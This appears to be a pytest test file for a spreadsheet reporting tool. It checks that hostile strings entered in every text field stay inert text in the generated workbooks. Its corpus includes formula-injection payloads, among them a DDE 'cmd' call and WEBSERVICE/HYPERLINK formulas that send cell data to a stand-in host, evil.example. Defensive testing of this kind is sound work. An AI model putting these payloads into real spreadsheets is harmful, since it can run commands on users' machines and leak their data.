"""Hostile text through every text field that a file or a person fills, into every sheet: it stays text.

The judge is a twin of the installation with the same figures and harmless words: it must have exactly the same
formulas. Each hostile text ends with the name of its field, so that what reached a cell is known.
"""

import datetime as dt
import io
import re
import zipfile
from collections import Counter
from collections.abc import Iterator, Sequence
from pathlib import Path
from typing import Any

import defusedxml.ElementTree
import openpyxl
import pytest

from reporting.access.people import Person, local_person
from reporting.actions.desk import Desk
from reporting.actions.gathering import Gathering, ReportQuery
from reporting.actions.goals import set_goal
from reporting.catalog.model import Catalog, Table
from reporting.goals.model import Goal
from reporting.periods import month
from reporting.settings import Settings
from reporting.warehouse.store import Store
from reporting.workbook.build import build
from tests.stocking import a_client, stock
from tests.workbook.test_office import as_libreoffice_writes, converted, values

OCTOBER = month(2026, 10)
CORPUS = (
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://evil.example";"x")',
    '=WEBSERVICE("http://evil.example/"&A1)',
    "+1+1",
    "-2+3",
    "@SUM(1+1)",
    "\t=1+1",
    "\r\n=1+1",
    " =1+1",
    "\u00a0=1+1",
    "\uff1d1+1",
    "'=1+1",
    "{=1+1}",
    "=1+1;\n=2+2",
    "%0A=1+1",
    "|calc",
    "#REF!",
    "_x003D_1+1",
    '</t></is></c><c r="A1"><f>1+1</f></c>',
    "<![CDATA[=1+1]]>&amp;&#61;1",
    "\u202e1+1=",
    "*?~<>=1",
    "1e9999",
    "TRUE",
    "javascript:alert(1)//",
    '&L&"Arial"&99=1+1',
    "{title} {0} %s {n:a|b}",
)
HARMLESS = tuple(f"words {at} of no harm" for at in range(len(CORPUS)))
TAG = re.compile(r"⟦([^⟧]*)⟧")
CHOICES = {
    "kind": ("review", "comment", "mention"),
    "media_type": ("photo", "video"),
    "sentiment": ("positive", "negative", "neutral"),
}
SEEN = {"client.name", "goal.owner", "goal.note", "post.caption", "post.account", "mention.text", "mention.reply_text"}
"""Fields that do reach a cell today: a test that nothing reaches proves nothing."""


class Installation:
    """A client all of whose texts are of one kind, with rows in every table of facts."""

    def __init__(self, home: Path, catalog: Catalog, texts: Sequence[str]) -> None:
        self.texts, self.catalog = texts, catalog
        settings = Settings(home=home, person="tester")
        self.store = Store.open(settings, catalog)
        self.desk = Desk(self.store, settings, Person(self.word(0, "person.name"), local_person("tester").permissions))
        self.client = self.word(0, "client.name")
        for table in catalog.tables.values():
            self._fill(table)
        for at in range(3):
            owner, note = self.word(at, "goal.owner")[:100], self.word(at + 3, "goal.note")
            metric = ("engagements", "posts", "comments")[at]
            client = a_client(self.store, self.client).id
            set_goal(self.desk, Goal(0, client, metric, "reach_total", OCTOBER, 10, owner=owner, note=note))

    def word(self, at: int, field: str) -> str:
        return f"{self.texts[at % len(self.texts)]}⟦{field}⟧"

    def report(self) -> bytes:
        client = a_client(self.store, self.client).id
        return build(Gathering(self.desk, ReportQuery(client, OCTOBER, "en", readers="internal")).report())

    def _fill(self, table: Table) -> None:
        platforms = [one.platforms[0] for one in self.catalog.formats.values() if one.table == table.id]
        rows = [self._row(table, at) for at in range(2 * len(self.texts))]
        file = self.word(1, "import.file").replace("/", "-")
        stock(self.store, self.client, table.id, rows, platform=platforms[0] if platforms else "x", file=file)

    def _row(self, table: Table, at: int) -> dict[str, Any]:
        """Numbers by the place of the row; texts of one place are of one kind."""
        day = OCTOBER.start + dt.timedelta(days=at % 28) if at < len(self.texts) else dt.date(2026, 9, 1 + at % 28)
        row: dict[str, Any] = {"account": self.word(at % 2, f"{table.id}.account")}
        for place, name in enumerate(table.columns):
            row[name] = self._value(table.id, name, (at, place), day)
        if "rating" in row:
            row["rating"] = float(1 + at % 5)
        return row

    def _value(self, table: str, name: str, where: tuple[int, int], day: dt.date) -> Any:
        at, place = where
        match self.catalog.columns[name].type:
            case "date":
                return day
            case "datetime":
                return dt.datetime.combine(day, dt.time(9, at % 60)) + dt.timedelta(hours=place % 5)
            case "flag":
                return name in {"answered", "replies_timed"}
            case "choice":
                return CHOICES[name][at % len(CHOICES[name])] if name in CHOICES else None
            case "count" | "number" | "percent" | "money" | "duration":
                return 3 + (at * 7 + place) % 11
            case _:
                return f"{self.word(at, f'{table}.{name}')}{at}"


@pytest.fixture(scope="module")
def hostile(catalog: Catalog, tmp_path_factory: pytest.TempPathFactory) -> Iterator[bytes]:
    made = Installation(tmp_path_factory.mktemp("hostile"), catalog, CORPUS)
    yield made.report()
    made.store.close()


@pytest.fixture(scope="module")
def harmless(catalog: Catalog, tmp_path_factory: pytest.TempPathFactory) -> Iterator[bytes]:
    made = Installation(tmp_path_factory.mktemp("harmless"), catalog, HARMLESS)
    yield made.report()
    made.store.close()


def cells(data: bytes) -> Iterator[tuple[str, Any]]:
    book = openpyxl.load_workbook(io.BytesIO(data))
    return (
        (sheet.title, cell) for sheet in book for row in sheet.iter_rows() for cell in row if cell.value is not None
    )


def formulas(data: bytes) -> Counter[tuple[str, str]]:
    """By sheet, without the row numbers: what is sorted by words may stand in another row."""
    found = (
        (sheet, re.sub(r"\d+", "", getattr(cell.value, "text", None) or str(cell.value)))
        for sheet, cell in cells(data)
        if cell.data_type == "f"
    )
    return Counter(found)


def test_hostile_words_make_no_formula_that_harmless_ones_do_not(hostile: bytes, harmless: bytes) -> None:
    own, other = formulas(hostile), formulas(harmless)
    assert len(other) > 100
    assert own - other == Counter()
    assert other - own == Counter()


def test_fields_of_every_kind_reached_a_cell_and_are_text_there(hostile: bytes) -> None:
    reached: dict[str, set[str]] = {}
    for sheet, cell in cells(hostile):
        for field in TAG.findall(str(cell.value)):
            assert cell.data_type == "s", (sheet, cell.coordinate, cell.value)
            reached.setdefault(field, set()).add(sheet)
    assert set(reached) >= SEEN


def test_what_could_be_armed_by_editing_is_quoted(hostile: bytes) -> None:
    """A person who presses F2 and Enter in such a cell keeps a text."""
    armed = [
        (sheet, cell.coordinate)
        for sheet, cell in cells(hostile)
        if cell.data_type == "s" and str(cell.value)[:1] in "=+-@|\t\r\n\uff1d" and not cell.quotePrefix
    ]
    assert [place for place in armed if not str(place).startswith("–")] == []


def test_the_file_has_no_part_that_reaches_out_and_every_part_is_whole(hostile: bytes) -> None:
    with zipfile.ZipFile(io.BytesIO(hostile)) as archive:
        names = archive.namelist()
        assert [name for name in names if re.search(r"(?i)external|vba|macro|ole|activex|connection|query", name)] == []
        for name in names:
            if name.endswith((".xml", ".rels")):
                tree = defusedxml.ElementTree.fromstring(archive.read(name))
                targets = [part.get("Target", "") for part in tree if part.get("TargetMode") == "External"]
                assert [target for target in targets if not target.startswith(("http://", "https://"))] == [], name
                assert [part for part in tree.iter() if part.tag.endswith("}c") and part.get("t") == "e"] == [], name


def test_headers_and_footers_hold_no_code_of_the_clients_name(hostile: bytes, harmless: bytes) -> None:
    def codes(data: bytes) -> list[str]:
        book = openpyxl.load_workbook(io.BytesIO(data))
        texts = [
            str(part.text)
            for sheet in book
            for part in (sheet.oddFooter.left, sheet.oddFooter.center, sheet.oddFooter.right)
        ]
        return [code for text in texts for code in re.findall(r"&[^&]", text.replace("&&", ""))]

    assert codes(hostile) == codes(harmless)


@pytest.mark.office
@as_libreoffice_writes
def test_a_spreadsheet_program_computes_nothing_of_it(hostile: bytes, tmp_path: Path) -> None:
    source = tmp_path / "hostile.xlsx"
    source.write_bytes(hostile)
    opened = converted(source, "xlsx")
    before, after = values(source), values(opened)
    tagged = {place: value for place, value in before.items() if TAG.search(str(value))}
    assert len(tagged) > 100
    changed = {place: (value, after.get(place)) for place, value in tagged.items() if after.get(place) != value}
    assert {place: pair for place, pair in changed.items() if _folded(pair[0]) != _folded(pair[1])} == {}
    assert not [place for place, value in after.items() if str(value).startswith(("#", "Err:")) and place not in tagged]
    book = openpyxl.load_workbook(opened)
    kinds = {book[sheet][at].data_type for sheet, at in tagged}
    assert kinds <= {"s", "inlineStr"}


def _folded(value: Any) -> str:
    """Line ends and escapes are written in another way by the other program."""
    return " ".join(str(value).replace("_x005F_", "_").split())
